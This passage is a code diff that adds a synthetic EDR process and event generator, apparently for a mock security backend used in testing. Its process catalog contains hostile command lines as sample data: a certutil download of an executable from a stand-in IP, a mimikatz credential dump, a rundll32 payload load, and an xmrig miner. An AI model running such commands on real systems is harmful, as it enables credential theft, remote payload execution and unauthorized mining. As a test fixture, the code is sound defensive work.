@@ -269,9 +269,15 @@ class Table:
         if col is None:
             raise CriteriaError(f"unknown criteria field {name!r}", field=name)
         targets = {_norm(v) for v in wanted}
+        pathlike = self.schema.get(self.aliases.get(name, name), self.schema.get(name)) == "text"
+        tails = tuple(f"{sep}{t}" for t in targets if isinstance(t, str) for sep in ("\\", "/"))
 
         def hit(value: Any) -> bool:
-            return any(_norm(v) in targets for v in _values(value))
+            for v in _values(value):
+                n = _norm(v)
+                if n in targets or (pathlike and isinstance(n, str) and n.endswith(tails)):
+                    return True
+            return False
 
         if isinstance(col, Categorical):
             table = [hit(v) for v in col.values]
@@ -1725,6 +1731,41 @@ class CloudOrg:
             now=state.clock.time,
         )
         self._extras: dict[str, Any] = {}
+        self._processes: ProcessStore | None = None
+        self._auth_events: AuthEventStore | None = None
+
+    @property
+    def processes(self) -> ProcessStore:
+        if self._processes is None:
+            c = self.config
+            self._processes = ProcessStore(
+                self.state.endpoints,
+                seed=c.seed,
+                count=c.processes if c.cloud_processes is None else c.cloud_processes,
+                org_key=c.org_key,
+                epoch=c.data_epoch,
+                history_days=c.history_days,
+            )
+        return self._processes
+
+    @property
+    def auth_events(self) -> AuthEventStore:
+        if self._auth_events is None:
+            c = self.config
+            self._auth_events = AuthEventStore(
+                self.state.endpoints,
+                seed=c.seed,
+                count=c.auth_events,
+                org_key=c.org_key,
+                epoch=c.data_epoch,
+                history_days=c.history_days,
+            )
+        return self._auth_events
+
+    @property
+    def has_online_endpoints(self) -> bool:
+        """Whether any sensor answers (a search job over an org with none never progresses)."""
+        return any(ep.online for ep in self.state.endpoints)
 
     def lazy(self, name: str, factory: Callable[[], Any]) -> Any:
         value = self._extras.get(name)
@@ -1737,3 +1778,1032 @@ def cloud_org(state: Any) -> CloudOrg:
     """The state's cloud org (created on first use, shared by every cloud route module)."""
     org: CloudOrg = state.backend(CLOUD_BACKEND, CloudOrg)
     return org
+
+
+# --------------------------------------------------------------------------------------------
+# Enterprise EDR processes and their events
+# --------------------------------------------------------------------------------------------
+
+
+@dataclass(frozen=True)
+class _Prog:
+    """A program a process runs (one entry of the process catalog)."""
+
+    name: str
+    path: str
+    cmdline: str
+    user: str  # "system", "service", "user"
+    reputation: str = "TRUSTED_WHITE_LIST"
+    company: str = ""
+    product: str = ""
+    publisher: str = ""
+
+    @property
+    def sha256(self) -> str:
+        return hashlib.sha256(self.path.encode()).hexdigest()
+
+    @property
+    def md5(self) -> str:
+        return hashlib.md5(self.path.encode(), usedforsecurity=False).hexdigest()
+
+
+_MSFT = (
+    "Microsoft Corporation",
+    "Microsoft\u00ae Windows\u00ae Operating System",
+    "Microsoft Windows",
+)
+_S32 = "c:\\windows\\system32\\"
+
+_WIN_ROOT = (_Prog("services.exe", _S32 + "services.exe", "C:\\Windows\\system32\\services.exe", "system", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("explorer.exe", "c:\\windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("wininit.exe", _S32 + "wininit.exe", "wininit.exe", "system", "TRUSTED_WHITE_LIST", *_MSFT))  # fmt: skip
+_WIN_MID = (_Prog("svchost.exe", _S32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "system", "TRUSTED_WHITE_LIST", *_MSFT),
+            _Prog("cmd.exe", _S32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c whoami', "user", "TRUSTED_WHITE_LIST", *_MSFT),
+            _Prog("powershell.exe", _S32 + "windowspowershell\\v1.0\\powershell.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+            _Prog("chrome.exe", "c:\\program files\\google\\chrome\\application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', "user", "TRUSTED_WHITE_LIST", "Google LLC", "Google Chrome", "Google LLC"),
+            _Prog("winword.exe", "c:\\program files\\microsoft office\\root\\office16\\winword.exe", '"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE" /n', "user", "TRUSTED_WHITE_LIST", "Microsoft Corporation", "Microsoft Office", "Microsoft Corporation"),
+            _Prog("lsass.exe", _S32 + "lsass.exe", "C:\\Windows\\system32\\lsass.exe", "system", "TRUSTED_WHITE_LIST", *_MSFT))  # fmt: skip
+_WIN_LEAF = (_Prog("conhost.exe", _S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("notepad.exe", _S32 + "notepad.exe", '"C:\\Windows\\system32\\notepad.exe"', "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("whoami.exe", _S32 + "whoami.exe", "whoami /all", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("net.exe", _S32 + "net.exe", "net user /domain", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("rundll32.exe", _S32 + "rundll32.exe", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "user", "KNOWN_MALWARE"),
+             _Prog("taskhostw.exe", _S32 + "taskhostw.exe", "taskhostw.exe", "user", "TRUSTED_WHITE_LIST", *_MSFT),
+             _Prog("msedge.exe", "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe", '"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer', "user", "TRUSTED_WHITE_LIST", "Microsoft Corporation", "Microsoft Edge", "Microsoft Corporation"),
+             _Prog("7z.exe", "c:\\program files\\7-zip\\7z.exe", '"C:\\Program Files\\7-Zip\\7z.exe" a backup.7z C:\\Users', "user", "COMMON_WHITE_LIST", "Igor Pavlov", "7-Zip", ""),
+             _Prog("certutil.exe", _S32 + "certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "user", "TRUSTED_WHITE_LIST", *_MSFT))  # fmt: skip
+_NIX_ROOT = (_Prog("systemd", "/usr/lib/systemd/systemd", "/sbin/init splash", "system"),
+             _Prog("sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]", "system"))  # fmt: skip
+_NIX_MID = (_Prog("bash", "/usr/bin/bash", "-bash", "user"),
+            _Prog("cron", "/usr/sbin/cron", "/usr/sbin/cron -f -P", "system"),
+            _Prog("python3", "/usr/bin/python3.10", "python3 /opt/app/worker.py", "service"),
+            _Prog("nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx", "system"),
+            _Prog("java", "/usr/lib/jvm/java-17-openjdk/bin/java", "java -jar /opt/app/service.jar", "service"))  # fmt: skip
+_NIX_LEAF = (_Prog("curl", "/usr/bin/curl", "curl -s https://api.example.com/health", "user"),
+             _Prog("ls", "/usr/bin/ls", "ls -la /tmp", "user"),
+             _Prog("cat", "/usr/bin/cat", "cat /etc/passwd", "user"),
+             _Prog("sudo", "/usr/bin/sudo", "sudo systemctl restart nginx", "user"),
+             _Prog("tar", "/usr/bin/tar", "tar czf /tmp/backup.tgz /var/www", "user"),
+             _Prog("xmrig", "/tmp/.x/xmrig", "/tmp/.x/xmrig -o pool.example.net:3333", "user", "KNOWN_MALWARE"))  # fmt: skip
+_MAC_ROOT = (_Prog("launchd", "/sbin/launchd", "/sbin/launchd", "system", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),)  # fmt: skip
+_MAC_MID = (_Prog("Finder", "/system/library/coreservices/finder.app/contents/macos/finder", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
+            _Prog("zsh", "/bin/zsh", "-zsh", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
+            _Prog("Safari", "/applications/safari.app/contents/macos/safari", "/Applications/Safari.app/Contents/MacOS/Safari", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "Safari", "Software Signing"))  # fmt: skip
+_MAC_LEAF = (_Prog("osascript", "/usr/bin/osascript", "osascript -e 'display dialog \"Update\"'", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
+             _Prog("curl", "/usr/bin/curl", "curl -O https://example.com/tool.pkg", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"),
+             _Prog("mdworker_shared", "/system/library/frameworks/coreservices.framework/mdworker_shared", "mdworker_shared -s mdworker", "user", "TRUSTED_WHITE_LIST", "Apple Inc.", "macOS", "Software Signing"))  # fmt: skip
+
+_POOLS: dict[str, tuple[tuple[_Prog, ...], ...]] = {
+    "windows": (_WIN_ROOT, _WIN_MID, _WIN_LEAF),
+    "linux": (_NIX_ROOT, _NIX_MID, _NIX_LEAF),
+    "macos": (_MAC_ROOT, _MAC_MID, _MAC_LEAF),
+}
+_PROGS: tuple[_Prog, ...] = tuple(p for pools in _POOLS.values() for pool in pools for p in pool)
+_PROG_INDEX = {id(p): n for n, p in enumerate(_PROGS)}
+_POOL_CODES = {
+    os_: tuple(tuple(_PROG_INDEX[id(p)] for p in pool) for pool in pools)
+    for os_, pools in _POOLS.items()
+}
+
+FAMILY = 8
+"""Processes per family: a small tree (position p's parent is (p - 1) // 2, position 0 the root)."""
+
+EVENT_TYPES = ("netconn", "filemod", "regmod", "modload", "crossproc", "childproc", "scriptload")
+PROCESS_DEFAULT_FIELDS = (
+    "backend_timestamp", "childproc_count", "crossproc_count", "device_group_id", "device_id",
+    "device_name", "device_policy_id", "device_timestamp", "filemod_count", "ingress_time",
+    "modload_count", "netconn_count", "org_id", "parent_guid", "parent_pid", "process_guid",
+    "process_hash", "process_name", "process_pid", "process_username", "regmod_count",
+    "scriptload_count",
+)  # fmt: skip
+_EVENT_DESC = {
+    "netconn": "connected to",
+    "filemod": "modified",
+    "regmod": "modified registry key",
+    "modload": "loaded",
+    "crossproc": "opened a handle to",
+    "childproc": "started",
+    "scriptload": "loaded script",
+}
+
+
+class ProcessStore:
+    """Processes of the cloud org: families of ``FAMILY`` processes, each on one device."""
+
+    def __init__(
+        self,
+        endpoints: EndpointPopulation,
+        *,
+        seed: int,
+        count: int,
+        org_key: str,
+        epoch: float,
+        history_days: int,
+    ) -> None:
+        self.endpoints = endpoints
+        self.seed = seed
+        self.count = count
+        self.org_key = org_key
+        self.epoch = epoch
+        self.history = history_days * 86_400
+        self._prog_codes: list[int] | None = None
+        self._device_codes: list[int] | None = None
+        self.table = self._table()
+
+    # -- core facts (arrays built once, on first use) ------------------------------------------
+    def _arrays(self) -> tuple[list[int], list[int]]:
+        if self._prog_codes is None or self._device_codes is None:
+            ndev = len(self.endpoints)
+            families = (self.count + FAMILY - 1) // FAMILY
+            fam_dev = [mix(self.seed, f, 1) % ndev for f in range(families)]
+            fam_os = [self.endpoints[d].os_family for d in fam_dev]
+            progs: list[int] = []
+            devices: list[int] = []
+            for i in range(self.count):
+                fam, pos = divmod(i, FAMILY)
+                pools = _POOL_CODES[fam_os[fam]]
+                pool = pools[0 if pos == 0 else (1 if pos < 3 else 2)]
+                progs.append(pool[mix(self.seed, i, 2) % len(pool)])
+                devices.append(fam_dev[fam])
+            self._prog_codes, self._device_codes = progs, devices
+        return self._prog_codes, self._device_codes
+
+    def prog(self, i: int) -> _Prog:
+        return _PROGS[self._arrays()[0][i]]
+
+    def endpoint(self, i: int) -> Endpoint:
+        return self.endpoints[self._arrays()[1][i]]
+
+    def parent_index(self, i: int) -> int | None:
+        pos = i % FAMILY
+        return None if pos == 0 else i - pos + (pos - 1) // 2
+
+    def children(self, i: int) -> list[int]:
+        fam_start = i - i % FAMILY
+        pos = i % FAMILY
+        return [
+            fam_start + c
+            for c in (2 * pos + 1, 2 * pos + 2)
+            if c < FAMILY and fam_start + c < self.count
+        ]
+
+    def siblings(self, i: int) -> list[int]:
+        parent = self.parent_index(i)
+        return [] if parent is None else [c for c in self.children(parent) if c != i]
+
+    def pid(self, i: int) -> int:
+        ep = self.endpoint(i)
+        if i % FAMILY == 0:
+            base = 4 if ep.os_family == "windows" else 1
+            return base + (mix(self.seed, i, 3) % 200) * (4 if base == 4 else 1)
+        return (mix(self.seed, i, 4) % 30_000 + 300) * (4 if ep.os_family == "windows" else 1)
+
+    def start(self, i: int) -> float:
+        fam, pos = divmod(i, FAMILY)
+        family_start = self.epoch - 120 - mix(self.seed, fam, 5) % max(self.history - 600, 1)
+        return family_start + pos * 7 + mix(self.seed, i, 6) % 5
+
+    def guid(self, i: int) -> str:
+        ep = self.endpoint(i)
+        ft = int((self.start(i) + 11_644_473_600) * 10_000_000)
+        return f"{self.org_key}-{ep.device_id & 0xFFFFFFFF:08x}-{self.pid(i):08x}-{i:08x}-{ft:x}"
+
+    def index_of(self, guid: str) -> int | None:
+        parts = str(guid).split("-")
+        if len(parts) < 5 or parts[0] != self.org_key:
+            return None
+        try:
+            i = int(parts[3], 16)
+        except ValueError:
+            return None
+        if not 0 <= i < self.count or self.guid(i) != guid:
+            return None
+        return i
+
+    def username(self, i: int) -> str:
+        prog, ep = self.prog(i), self.endpoint(i)
+        if prog.user == "system":
+            return "NT AUTHORITY\\SYSTEM" if ep.os_family == "windows" else "root"
+        if prog.user == "service":
+            return "NT AUTHORITY\\NETWORK SERVICE" if ep.os_family == "windows" else "app"
+        return ep.username
+
+    def counts(self, i: int) -> dict[str, int]:
+        h = mix(self.seed, i, 7)
+        malicious = self.prog(i).reputation == "KNOWN_MALWARE"
+        return {
+            "netconn_count": h % 7 + (12 if malicious else 0),
+            "filemod_count": (h >> 8) % 9,
+            "regmod_count": (h >> 16) % 5 if self.endpoint(i).os_family == "windows" else 0,
+            "modload_count": (h >> 24) % 12 + 2,
+            "crossproc_count": (h >> 32) % 4 + (3 if malicious else 0),
+            "childproc_count": len(self.children(i)),
+            "scriptload_count": (h >> 40) % 3 if self.prog(i).name.startswith("powershell") else 0,
+        }
+
+    # -- documents -------------------------------------------------------------------------------
+    def doc(self, i: int, *, full: bool = False) -> dict[str, Any]:
+        prog, ep = self.prog(i), self.endpoint(i)
+        start = self.start(i)
+        parent = self.parent_index(i)
+        parent_prog = self.prog(parent) if parent is not None else None
+        counts = self.counts(i)
+        doc: dict[str, Any] = {
+            "backend_timestamp": iso(start + 95),
+            "device_group_id": 0,
+            "device_id": ep.device_id,
+            "device_name": ep.hostname.lower(),
+            "device_policy_id": ep.policy_id,
+            "device_timestamp": iso(start),
+            "ingress_time": int((start + 60) * 1000),
+            "org_id": self.org_key,
+            "parent_guid": self.guid(parent)
+            if parent is not None
+            else f"{self.org_key}-{ep.device_id & 0xFFFFFFFF:08x}-00000000-00000000-0",
+            "parent_pid": self.pid(parent) if parent is not None else 0,
+            "process_guid": self.guid(i),
+            "process_hash": [prog.md5, prog.sha256],
+            "process_name": prog.path,
+            "process_pid": [self.pid(i)],
+            "process_username": [self.username(i)],
+            **counts,
+        }
+        if full:
+            doc.update(
+                {
+                    "device_os": ep.cloud_os,
+                    "device_os_version": ep.cloud_os_version,
+                    "device_policy": ep.policy_name,
+                    "device_internal_ip": ep.internal_ip,
+                    "device_external_ip": ep.external_ip,
+                    "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
+                    "device_sensor_version": ep.cloud_sensor_version,
+                    "device_target_priority": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
+                    "process_cmdline": [prog.cmdline],
+                    "process_cmdline_length": [len(prog.cmdline)],
+                    "process_company_name": prog.company,
+                    "process_product_name": prog.product,
+                    "process_publisher": [prog.publisher] if prog.publisher else [],
+                    "process_publisher_state": [
+                        "FILE_SIGNATURE_STATE_SIGNED",
+                        "FILE_SIGNATURE_STATE_VERIFIED",
+                    ]
+                    if prog.publisher
+                    else ["FILE_SIGNATURE_STATE_NOT_SIGNED"],
+                    "process_reputation": prog.reputation,
+                    "process_effective_reputation": prog.reputation,
+                    "process_effective_reputation_source": "CLOUD",
+                    "process_sha256": prog.sha256,
+                    "process_start_time": iso(start),
+                    "process_elevated": prog.user == "system",
+                    "process_integrity_level": "SYSTEM" if prog.user == "system" else "MEDIUM",
+                    "process_original_filename": prog.name,
+                    "process_internal_name": prog.name.rsplit(".", 1)[0],
+                    "parent_name": parent_prog.path if parent_prog else "",
+                    "parent_hash": [parent_prog.md5, parent_prog.sha256] if parent_prog else [],
+                    "parent_cmdline": parent_prog.cmdline if parent_prog else "",
+                    "parent_reputation": parent_prog.reputation if parent_prog else "NOT_LISTED",
+                    "parent_effective_reputation": parent_prog.reputation
+                    if parent_prog
+                    else "NOT_LISTED",
+                    "event_type": ["childproc", "netconn", "filemod", "modload"],
+                    "enriched": True,
+                    "enriched_event_type": ["CREATE_PROCESS", "NETWORK"],
+                    "legacy": True,
+                    "alert_category": ["THREAT"] if prog.reputation == "KNOWN_MALWARE" else [],
+                    "alert_id": [],
+                    "ttp": ["MITRE_T1003_CREDENTIAL_DUMP"] if prog.name == "mimikatz.exe" else [],
+                }
+            )
+        return doc
+
+    def project(self, i: int, fields: Sequence[str] | None) -> dict[str, Any]:
+        """A search result row: the default fields plus the extra ones asked for."""
+        wanted = [f for f in (fields or ["*"]) if f != "*"]
+        full = any(f not in PROCESS_DEFAULT_FIELDS for f in wanted)
+        doc = self.doc(i, full=full)
+        if not full:
+            return doc
+        keep = set(PROCESS_DEFAULT_FIELDS) | set(wanted)
+        return {k: v for k, v in doc.items() if k in keep}
+
+    # -- table -----------------------------------------------------------------------------------
+    def _table(self) -> Table:
+        def prog_col(attr: str) -> Categorical[int]:
+            return Categorical(lambda i: self._arrays()[0][i], [getattr(p, attr) for p in _PROGS])
+
+        def dev_col(fn: Callable[[Endpoint], Any]) -> Categorical[int]:
+            return Categorical(
+                lambda i: self._arrays()[1][i],
+                _LazyValues(lambda: [fn(ep) for ep in self.endpoints]),
+            )
+
+        def count_col(name: str) -> Getter:
+            return lambda i: self.counts(i)[name]
+
+        cols: dict[str, Column] = {
+            "process_name": prog_col("path"),
+            "process_original_filename": prog_col("name"),
+            "process_sha256": prog_col("sha256"),
+            "process_hash": Categorical(
+                lambda i: self._arrays()[0][i], [[p.md5, p.sha256] for p in _PROGS]
+            ),
+            "process_cmdline": prog_col("cmdline"),
+            "process_reputation": prog_col("reputation"),
+            "process_effective_reputation": prog_col("reputation"),
+            "process_company_name": prog_col("company"),
+            "process_product_name": prog_col("product"),
+            "process_publisher": prog_col("publisher"),
+            "device_name": dev_col(lambda ep: ep.hostname.lower()),
+            "device_id": dev_col(lambda ep: ep.device_id),
+            "device_os": dev_col(lambda ep: ep.cloud_os),
+            "device_policy": dev_col(lambda ep: ep.policy_name),
+            "device_policy_id": dev_col(lambda ep: ep.policy_id),
+            "device_internal_ip": dev_col(lambda ep: ep.internal_ip),
+            "device_external_ip": dev_col(lambda ep: ep.external_ip),
+            "device_group_id": lambda i: 0,
+            "org_id": lambda i: self.org_key,
+            "process_guid": self.guid,
+            "process_pid": lambda i: [self.pid(i)],
+            "process_username": lambda i: [self.username(i)],
+            "parent_guid": lambda i: (
+                self.guid(p) if (p := self.parent_index(i)) is not None else None
+            ),
+            "parent_pid": lambda i: self.pid(p) if (p := self.parent_index(i)) is not None else 0,
+            "parent_name": lambda i: (
+                self.prog(p).path if (p := self.parent_index(i)) is not None else None
+            ),
+            "process_start_time": self.start,
+            "device_timestamp": self.start,
+            "backend_timestamp": lambda i: self.start(i) + 95,
+            "ingress_time": lambda i: int((self.start(i) + 60) * 1000),
+            **{
+                name: count_col(name)
+                for name in (
+                    "netconn_count",
+                    "filemod_count",
+                    "regmod_count",
+                    "modload_count",
+                    "crossproc_count",
+                    "childproc_count",
+                    "scriptload_count",
+                )
+            },
+        }
+        schema: dict[str, FieldType] = dict.fromkeys(cols, "keyword")
+        schema.update(
+            {
+                "process_name": "text",
+                "parent_name": "text",
+                "process_cmdline": "text",
+                "device_id": "number",
+                "device_policy_id": "number",
+                "device_group_id": "number",
+                "process_pid": "number",
+                "parent_pid": "number",
+                "device_internal_ip": "ip",
+                "device_external_ip": "ip",
+                "process_start_time": "date",
+                "device_timestamp": "date",
+                "backend_timestamp": "date",
+                "ingress_time": "number",
+            }
+        )
+        schema.update({f"{t}_count": "number" for t in EVENT_TYPES})
+        return Table(
+            count=lambda: self.count,
+            columns=cols,
+            schema=schema,
+            default_fields=("process_name", "process_cmdline", "device_name", "process_username"),
+            time_field="device_timestamp",
+            time_criteria=frozenset(
+                {"process_start_time", "device_timestamp", "backend_timestamp"}
+            ),
+        )
+
+    # -- events ------------------------------------------------------------------------------------
+    def events(self, i: int) -> list[dict[str, Any]]:
+        """Every event of process ``i`` (built on demand, in time order)."""
+        ep, prog = self.endpoint(i), self.prog(i)
+        start = self.start(i)
+        counts = self.counts(i)
+        children = self.children(i)
+        windows = ep.os_family == "windows"
+        out: list[dict[str, Any]] = []
+        for kind in EVENT_TYPES:
+            n = counts[f"{kind}_count"]
+            for k in range(n):
+                h = mix(self.seed, i * 131 + k, 8 + EVENT_TYPES.index(kind))
+                t = start + 1 + (h % 3600) / 10
+                event: dict[str, Any] = {
+                    "event_type": kind,
+                    "event_id": f"{stable('evt', self.seed, i, kind, k):032x}",
+                    "event_timestamp": iso(t),
+                    "backend_timestamp": iso(t + 90),
+                    "device_timestamp": iso(t),
+                    "device_id": ep.device_id,
+                    "device_name": ep.hostname.lower(),
+                    "process_guid": self.guid(i),
+                    "process_pid": self.pid(i),
+                    "process_name": prog.path,
+                }
+                if kind == "netconn":
+                    ip = (
+                        f"203.0.113.{h % 250 + 1}"
+                        if h % 3
+                        else f"10.{h % 200}.{(h >> 8) % 250}.{(h >> 16) % 250 + 1}"
+                    )
+                    port = (443, 80, 53, 445, 3389, 8080, 3333)[h % 7]
+                    event.update(
+                        {
+                            "netconn_remote_ipv4": ip,
+                            "netconn_remote_port": port,
+                            "netconn_local_ipv4": ep.internal_ip,
+                            "netconn_local_port": 49_152 + h % 16_000,
+                            "netconn_protocol": "PROTO_UDP" if port == 53 else "PROTO_TCP",
+                            "netconn_action": "ACTION_CONNECTION_ESTABLISHED",
+                            "netconn_domain": (
+                                "api.example.com",
+                                "cdn.example.net",
+                                "pool.example.net",
+                                "",
+                            )[h % 4],
+                            "netconn_inbound": False,
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {ip}:{port}",
+                        }
+                    )
+                elif kind == "filemod":
+                    folder = "c:\\users\\public\\" if windows else "/tmp/"
+                    name = f"{folder}{('report', 'cache', 'update', 'data')[h % 4]}{k}.{('tmp', 'dat', 'exe', 'log')[(h >> 4) % 4]}"
+                    event.update(
+                        {
+                            "filemod_name": name,
+                            "filemod_action": ["ACTION_FILE_CREATE", "ACTION_FILE_LAST_WRITE"][
+                                h % 2
+                            ],
+                            "filemod_hash": [
+                                hashlib.md5(name.encode(), usedforsecurity=False).hexdigest()
+                            ],
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {name}",
+                        }
+                    )
+                elif kind == "regmod":
+                    key = f"\\registry\\machine\\software\\microsoft\\windows\\currentversion\\run\\entry{k}"
+                    event.update(
+                        {
+                            "regmod_name": key,
+                            "regmod_action": "ACTION_WRITE_VALUE",
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {key}",
+                        }
+                    )
+                elif kind == "modload":
+                    lib = (
+                        (
+                            _S32
+                            + (
+                                "ntdll.dll",
+                                "kernel32.dll",
+                                "user32.dll",
+                                "ws2_32.dll",
+                                "advapi32.dll",
+                                "crypt32.dll",
+                            )[h % 6]
+                        )
+                        if windows
+                        else f"/usr/lib/x86_64-linux-gnu/{('libc.so.6', 'libssl.so.3', 'libz.so.1')[h % 3]}"
+                    )
+                    event.update(
+                        {
+                            "modload_name": lib,
+                            "modload_md5": hashlib.md5(
+                                lib.encode(), usedforsecurity=False
+                            ).hexdigest(),
+                            "modload_sha256": hashlib.sha256(lib.encode()).hexdigest(),
+                            "modload_effective_reputation": "TRUSTED_WHITE_LIST",
+                            "modload_publisher": "Microsoft Windows" if windows else "",
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {lib}",
+                        }
+                    )
+                elif kind == "crossproc":
+                    target = _S32 + "lsass.exe" if windows else "/usr/sbin/sshd"
+                    event.update(
+                        {
+                            "crossproc_name": target,
+                            "crossproc_action": "ACTION_PROCESS_API_CALL"
+                            if h % 2
+                            else "ACTION_OPEN_PROCESS_HANDLE",
+                            "crossproc_target": True,
+                            "crossproc_process_guid": self.guid(i - i % FAMILY),
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {target}",
+                        }
+                    )
+                elif kind == "childproc":
+                    child = children[k]
+                    child_prog = self.prog(child)
+                    event.update(
+                        {
+                            "childproc_guid": self.guid(child),
+                            "childproc_pid": self.pid(child),
+                            "childproc_name": child_prog.path,
+                            "childproc_cmdline": child_prog.cmdline,
+                            "childproc_hash": [child_prog.md5, child_prog.sha256],
+                            "childproc_username": self.username(child),
+                            "event_timestamp": iso(self.start(child)),
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {child_prog.name}",
+                        }
+                    )
+                elif kind == "scriptload":
+                    script = f"c:\\scripts\\task{k}.ps1"
+                    event.update(
+                        {
+                            "scriptload_name": script,
+                            "scriptload_content": "Get-Process | Sort-Object CPU -Descending | Select-Object -First 5",
+                            "event_description": f"The application {prog.name} {_EVENT_DESC[kind]} {script}",
+                        }
+                    )
+                out.append(event)
+        out.sort(key=lambda e: (e["event_timestamp"], e["event_id"]))
+        return out
+
+
+class _LazyValues(Sequence[Any]):
+    """A value table computed on first use (the endpoints of a Categorical device column)."""
+
+    def __init__(self, build: Callable[[], list[Any]]) -> None:
+        self._build = build
+        self._values: list[Any] | None = None
+
+    def _get(self) -> list[Any]:
+        if self._values is None:
+            self._values = self._build()
+        return self._values
+
+    def __len__(self) -> int:
+        return len(self._get())
+
+    def __getitem__(self, index: Any) -> Any:
+        return self._get()[index]
+
+    def __iter__(self) -> Any:
+        return iter(self._get())
+
+
+EVENT_SCHEMA: dict[str, FieldType] = {
+    "event_type": "keyword",
+    "process_name": "text",
+    "netconn_remote_ipv4": "ip",
+    "netconn_local_ipv4": "ip",
+    "netconn_remote_port": "number",
+    "netconn_local_port": "number",
+    "netconn_protocol": "keyword",
+    "netconn_domain": "keyword",
+    "filemod_name": "text",
+    "regmod_name": "text",
+    "modload_name": "text",
+    "crossproc_name": "text",
+    "childproc_name": "text",
+    "childproc_cmdline": "text",
+    "scriptload_name": "keyword",
+    "event_description": "text",
+    "event_timestamp": "date",
+}
+
+
+def event_table(events: list[dict[str, Any]]) -> Table:
+    """A Table over one process's materialised events."""
+    names = sorted({k for e in events for k in e} | set(EVENT_SCHEMA))
+    cols: dict[str, Column] = {}
+    for name in names:
+        cols[name] = (lambda n: lambda i: events[i].get(n))(name)
+    cols["event_timestamp"] = lambda i: epoch_of(events[i]["event_timestamp"])
+    return Table(
+        count=lambda: len(events),
+        columns=cols,
+        schema=EVENT_SCHEMA,
+        default_fields=("event_description",),
+        time_field="event_timestamp",
+        time_criteria=frozenset({"event_timestamp", "backend_timestamp", "device_timestamp"}),
+    )
+
+
+# --------------------------------------------------------------------------------------------
+# Auth events (seed 004)
+# --------------------------------------------------------------------------------------------
+
+AUTH_SEARCH_FIELDS = (
+    "auth_domain_name", "auth_event_action", "auth_remote_device", "auth_remote_port",
+    "auth_username", "backend_timestamp", "childproc_count", "crossproc_count", "device_group_id",
+    "device_id", "device_name", "device_policy_id", "device_timestamp", "event_id",
+    "filemod_count", "ingress_time", "modload_count", "netconn_count", "org_id", "parent_guid",
+    "parent_pid", "process_guid", "process_hash", "process_name", "process_pid",
+    "process_username", "regmod_count", "scriptload_count", "windows_event_id",
+)  # fmt: skip
+_AUTH_EVENTS: tuple[tuple[int, str, int], ...] = (
+    # (windows_event_id, auth_event_action, weight)
+    (4624, "LOGON_SUCCESS", 40),
+    (4634, "LOGOFF_SUCCESS", 15),
+    (4672, "PRIVILEGES_GRANTED", 15),
+    (4625, "LOGON_FAILED", 8),
+    (4648, "LOGON_SUCCESS", 6),
+    (4647, "LOGOFF_INITIATED", 5),
+    (4776, "LOGON_DISCOVERED", 8),
+    (4740, "ACCOUNT_LOCKED", 2),
+    (4777, "LOGON_FAILED", 1),
+)
+_LOGON_TYPES = ((2, 20), (3, 35), (5, 25), (7, 5), (10, 8), (11, 7))
+_PRIVILEGES = (
+    "SeBackupPrivilege", "SeRestorePrivilege", "SeDebugPrivilege", "SeTcbPrivilege",
+    "SeSecurityPrivilege", "SeTakeOwnershipPrivilege", "SeImpersonatePrivilege",
+    "SeAssignPrimaryTokenPrivilege", "SeLoadDriverPrivilege", "SeSystemEnvironmentPrivilege",
+)  # fmt: skip
+_FAILURE_STATUS = ("0xC000006DL", "0xC000006AL", "0xC0000064L", "0xC0000234L", "0xC0000072L")
+
+AUTH_DESCRIPTIONS: dict[str, Any] = {
+    "event": {
+        "4624": "An account was successfully logged on",
+        "4625": "An account failed to log on",
+        "4634": "An account was logged off",
+        "4647": "User initiated logoff",
+        "4648": "A logon was attempted using explicit credentials",
+        "4672": "Special privileges assigned to new logon",
+        "4740": "A user account was locked out",
+        "4776": "The domain controller attempted to validate the credentials for an account",
+        "4777": "The domain controller failed to validate credentials for an account",
+        "6272": "Network Policy Server granted access to a user",
+    },
+    "status": [
+        {"status_id": "0xC0000064L", "message_code": "STATUS_NO_SUCH_USER", "message_description": "The specified account does not exist."},
